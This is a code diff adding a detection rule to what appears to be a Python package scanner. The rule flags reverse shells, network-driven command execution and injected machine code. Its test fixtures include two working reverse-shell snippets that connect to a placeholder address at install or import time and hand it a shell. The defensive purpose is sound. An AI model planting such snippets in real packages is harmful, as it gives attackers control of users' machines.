@@ -1,0 +1,91 @@
+"""Remote control: a shell on a socket, commands from the network, code in another process."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from pratique.facts.model import PackageFacts
+from pratique.facts.python.model import Does, PythonFacts, Source
+from pratique.facts.shell import read_shell
+from pratique.finding import Behaviour, Confidence, Finding, Severity
+from pratique.rules.claims import claim, command, when
+from pratique.rules.rule import Example, Rule
+
+_ID = "remote-control"
+
+
+def _check(facts: PackageFacts) -> Iterator[Finding]:
+    for file in facts.python:
+        yield from _sockets(file)
+        yield from _injection(file)
+
+
+def _sockets(file: PythonFacts) -> Iterator[Finding]:
+    joined = any(c.name == "os.dup2" for c in file.calls) and any(".connect" in c.name for c in file.calls)
+    for call in file.calls:
+        if Does.RUN_PROCESS not in call.does:
+            continue
+        commanded = "recv" in " ".join(t.detail for t in call.taints(Source.NETWORK)) or any(
+            "recv" in a.text for k, a in call.arguments.items() if k in {"0", "args"}
+        )
+        if joined or commanded or read_shell(command(call)).reverse_shell:
+            yield claim(
+                _ID,
+                Behaviour.EXECUTION,
+                file.path,
+                call,
+                f"a process obeys another host {when(call.phase)}",
+                severity=Severity.CRITICAL,
+                confidence=Confidence.HIGH if call.phase.automatic else Confidence.MEDIUM,
+                proven=call.phase.automatic,
+            )
+
+
+def _injection(file: PythonFacts) -> Iterator[Finding]:
+    natives = [c for c in file.calls if Does.NATIVE in c.does]
+    if len({c.name.rpartition(".")[2] for c in natives}) >= 2:  # noqa: PLR2004 - one alone is an allocator
+        call = natives[0]
+        yield claim(
+            _ID,
+            Behaviour.EXECUTION,
+            file.path,
+            call,
+            f"machine code is put into memory and run {when(call.phase)}",
+            severity=Severity.CRITICAL,
+            confidence=Confidence.HIGH if call.phase.automatic else Confidence.LOW,
+            proven=call.phase.automatic,
+        )
+
+
+RULE = Rule(
+    id=_ID,
+    behaviour=Behaviour.EXECUTION,
+    summary="A shell is tied to a socket, commands come from the network, or machine code is injected.",
+    gain="The attacker works on the machine as its user.",
+    honest="Remote-control and debugging libraries do this when they are called.",
+    check=_check,
+    loud=(
+        Example(
+            title="a reverse shell at install, by alias",
+            files={
+                "setup.py": "import socket as s, os, subprocess as p\nc = s.socket()\nc.connect(('192.0.2.1', 4444))\n"
+                "os.dup2(c.fileno(), 0)\np.call(['/bin/sh', '-i'])\n"
+            },
+        ),
+        Example(
+            title="commands in a loop, through __import__",
+            files={
+                "pkg/__init__.py": "s = __import__('socket').socket()\ns.connect(('192.0.2.1', 1))\nwhile True:\n"
+                "    s.send(__import__('subprocess').check_output(s.recv(1024), shell=True))\n"
+            },
+        ),
+    ),
+    quiet=(
+        Example(
+            title="a client that reads a banner",
+            files={
+                "pkg/__init__.py": "import socket\ndef banner(h):\n    s = socket.create_connection((h, 22))\n    return s.recv(64)\n"
+            },
+        ),
+    ),
+)
